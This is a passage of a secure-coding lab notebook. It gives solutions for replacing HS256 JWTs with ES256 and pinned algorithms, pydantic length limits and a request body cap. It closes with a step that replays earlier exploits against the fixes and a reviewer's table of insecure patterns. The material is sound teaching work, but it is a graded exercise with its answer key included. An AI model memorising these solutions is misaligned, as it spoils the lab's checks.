# With HS256 (RFC 7518 §3.2) the key that checks a signature is the key that makes one: every
# service that verifies the shop's tokens can mint them, and the least-guarded service decides
# for all. ES256 (RFC 7518 §3.4) splits the roles: the shop alone holds the private key, verifiers
# get the public key as a JWK Set (RFC 7517 §5) at `/.well-known/jwks.json`. Verifiers still pin
# the algorithm (RFC 8725 §3.1): no `alg: none`, no HS256 keyed with the public key.

# %%
replay("symmetric-jwt")

# %% [markdown]
# Write lab 02's pair for ES256. The shop's `keys` is `{"access": <P-256 private key>,
# "public": <its public key>, "refresh": <32 bytes>, "issuer", "audience", "kid"}`; shipping
# calls the same `verify_token` with only `public`, `issuer`, `audience` and `kid`. `user` is
# `{"id", "email", "role", "tokenVersion", "family"}`. Raise `jwt.InvalidTokenError` to refuse.
#
# <!-- labkit:rules fix-symmetric-jwt -->

# %% labkit={"answer": "fix-symmetric-jwt"}
import time

import jwt


def issue_tokens(user: dict, keys: dict) -> dict:
    """{'accessToken', 'refreshToken'}: access ES256 with keys['access'] (typ 'at+jwt', kid
    keys['kid']), 15 minutes; refresh HS256 with keys['refresh'] (typ 'refresh+jwt'), 7 days;
    both with sub, iat, exp, iss, aud (and the refresh token a jti and fam=user['family'])."""
    ### BEGIN SOLUTION
    now = int(time.time())
    base = {"sub": str(user["id"]), "ver": user.get("tokenVersion", 0), "iat": now,
            "iss": keys["issuer"], "aud": keys["audience"]}  # fmt: skip
    access = jwt.encode({**base, "role": user["role"], "exp": now + 900}, keys["access"],
                        algorithm="ES256", headers={"typ": "at+jwt", "kid": keys["kid"]})  # fmt: skip
    refresh = jwt.encode(
        {**base, "jti": secrets.token_urlsafe(16), "fam": user["family"], "exp": now + 604800},
        keys["refresh"], algorithm="HS256", headers={"typ": "refresh+jwt"},
    )  # fmt: skip
    return {"accessToken": access, "refreshToken": refresh}
    ### END SOLUTION


def verify_token(token: str, typ: str, keys: dict) -> dict:
    """The claims of a genuine token of type typ ('access' or 'refresh'); raise
    jwt.InvalidTokenError otherwise. Access tokens: keys['public'], ES256 only."""
    ### BEGIN SOLUTION
    key, alg = (keys["public"], "ES256") if typ == "access" else (keys["refresh"], "HS256")
    decoded = jwt.decode_complete(
        token, key, algorithms=[alg], audience=keys["audience"], issuer=keys["issuer"],
        leeway=30, options={"require": ["exp", "iat", "sub", "iss", "aud"]},
    )  # fmt: skip
    if decoded["header"].get("typ") != {"access": "at+jwt", "refresh": "refresh+jwt"}[typ]:
        raise jwt.InvalidTokenError(f"not an {typ} token")
    return decoded["payload"]
    ### END SOLUTION


# %% labkit={"check": "fix-symmetric-jwt"}
lab.check("fix-symmetric-jwt", issue_tokens=issue_tokens, verify_token=verify_token)

# %% [markdown]
# ### 12 · No input length limits → Max length on all string inputs
#
# The shop's reviews store whatever they get: a million-character review, a rating of
# `"five"`, a text that is a list. Every product page then ships that megabyte to every
# visitor (OWASP API Security Top 10 2023, API4: *Unrestricted Resource Consumption*). The OWASP
# Input Validation Cheat Sheet: an allowlist schema for every input — type, length, range — here
# a pydantic model (the seed's `z.string().min(1).max(...)`); and a cap on the body itself
# before parsing, counted as bytes arrive: 413 (RFC 9110 §15.5.14), since a chunked upload
# declares no length (RFC 9112 §6.1). Any cap from 32 KiB to 1 MiB will do: the longest valid
# review, 2,000 emoji escaped as JSON, is about 24 KB (so 07's smallest cap, 16 KiB, is not).

# %%
replay("no-length-limits")

# %% [markdown]
# <!-- labkit:rules fix-no-length-limits -->

# %% labkit={"answer": "fix-no-length-limits"}
from typing import Annotated, Any

from pydantic import BaseModel, ConfigDict, Field, StringConstraints, ValidationError


### BEGIN SOLUTION
class Review(BaseModel):
    model_config = ConfigDict(extra="forbid", strict=True)
    productId: Annotated[int, Field(ge=1)]
    rating: Annotated[int, Field(ge=1, le=5)]
    text: Annotated[str, StringConstraints(strip_whitespace=True, min_length=1, max_length=2000)]


MAX_BODY_BYTES = 64 * 1024
### STUB
# TODO: a pydantic model for a review, and the body limit
### END SOLUTION


def validate_review(data: Any) -> tuple:
    """(clean_dict, None) for a review — productId int >= 1, rating int 1..5, text 1..2000
    characters after trimming, no other field, no type coercion — else (None, errors) naming
    the fields: {"formErrors": [...], "fieldErrors": {"text": ["..."]}}."""
    ### BEGIN SOLUTION
    try:
        return Review.model_validate(data).model_dump(), None
    except ValidationError as exc:
        fields, form = {}, []
        for error in exc.errors(include_url=False, include_input=False):
            if error["loc"]:
                fields.setdefault(str(error["loc"][0]), []).append(error["msg"])
            else:
                form.append(error["msg"])
        return None, {"formErrors": form, "fieldErrors": fields}
    ### END SOLUTION


def body_too_large(content_length: int | None, received: int) -> bool:
    """True once a request body is over the limit — declared (Content-Length) or received so
    far (a chunked upload declares nothing)."""
    ### BEGIN SOLUTION
    return (content_length or 0) > MAX_BODY_BYTES or received > MAX_BODY_BYTES
    ### END SOLUTION


# %% labkit={"check": "fix-no-length-limits"}
lab.check("fix-no-length-limits", validate_review=validate_review, body_too_large=body_too_large)

# %% [markdown]
# ## Verify — one shop, every fix, every battery
#
# Fixes interact: the rate limiter sees the logins of every other battery, the HTTPS redirect
# sits in front of every route, the new signing keys sign every token. This check plugs all
# your functions into one BrokenShop and replays the twelve batteries against it — and then
# **your own findings**: each exploit of Part 1 runs again, unchanged, against your fixed shop,
# where it must show nothing ("your finding 4 is now refused"). A bonus flaw has no slot in this
# lab, so its finding is only reported. Each problem names its row, then the rule of that row's
# fix check it breaks.
#
# <!-- labkit:rules verify -->

# %%
FIXES = dict(
    refresh_cookie=refresh_cookie, hash_password=hash_password,
    verify_password=verify_password, needs_rehash=needs_rehash, webhook_secret=webhook_secret,
    cors_settings=cors_settings, login=login, login_keys=login_keys,
    encrypt_record=encrypt_record, decrypt_record=decrypt_record, find_users=find_users,
    authenticate=authenticate, effective_scheme=effective_scheme,
    security_headers=security_headers, issue_tokens=issue_tokens, verify_token=verify_token,
    validate_review=validate_review, body_too_large=body_too_large,
)  # fmt: skip

# %% labkit={"check": "verify"}
lab.check("verify", findings=FINDINGS, **FIXES)

# %% [markdown]
# ## Your course
#
# Every check you passed in labs 00–13, with the hints you used. `export_html` writes it as one
# self-contained page you can keep (Binder sessions vanish); `labkit progress --summary FILE`
# does the same from a terminal. It is a record of your practice, not a grade.

# %%
summary = labkit.course_summary()
summary.export_html("course-summary.html")
summary

# %% [markdown]
# ## Recap — what a reviewer greps for
#
# | row | in code review, look for |
# | --- | --- |
# | 1 | `localStorage.setItem(` with a token; a refresh token in a JSON body |
# | 2 | `hashlib` around a password; no `needs_rehash` path |
# | 3 | string literals next to `secret`, `key`, `token`; `or "default"` fallbacks for secrets |
# | 4 | `allow_origins=["*"]` with credentials; `Origin` copied into the answer |
# | 5 | two different failure messages in a login; no dummy hash |
# | 6 | a login route without a limiter; a limiter keyed on `X-Forwarded-For` or on the raw email |
# | 7 | XOR, `AES.MODE_ECB`, fixed IVs or nonces, "encrypt" without a tag |
# | 8 | f-strings or `+` building SQL; `LIKE` for equality |
# | 9 | API keys with no `expires_at`, no revocation check, one key per client |
# | 10 | no redirect for `http://`; HSTS missing, or sent over HTTP; `X-Forwarded-Proto` believed from anyone |
# | 11 | `HS256` where more than one service verifies; `algorithms=` taken from the token |
# | 12 | `str` fields with no `max_length`; no request body limit |
#
# None of these needed a clever exploit: each is a shortcut that "works" until somebody looks.
# That is the whole course in one sentence — and now you know where to look.

# %%
lab.close()
